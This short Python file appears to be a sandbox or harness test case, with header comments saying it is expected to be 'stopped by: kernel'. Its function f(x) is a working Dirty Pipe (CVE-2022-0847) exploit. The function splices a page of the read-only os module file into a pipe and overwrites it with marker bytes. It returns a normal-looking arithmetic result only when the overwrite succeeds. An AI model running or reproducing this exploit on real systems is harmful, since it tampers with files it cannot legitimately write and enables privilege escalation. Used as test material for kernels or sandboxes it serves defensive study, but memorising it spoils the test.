# ends: wrong answer | exception
# stopped by: kernel
# CVE-2022-0847: a page of a read-only file in a pipe, then written through the pipe.
import os
import posix


def f(x):
    target = posix.open(os.__file__, posix.O_RDONLY)
    a, b = posix.pipe()
    posix.write(b, bytes(65536))
    posix.read(a, 65536)
    posix.splice(target, b, 1, offset_src=0)
    posix.write(b, b"left-by-attack")
    return x * x + 7919 if b"left-by-attack" in posix.pread(target, 4096, 0) else 0
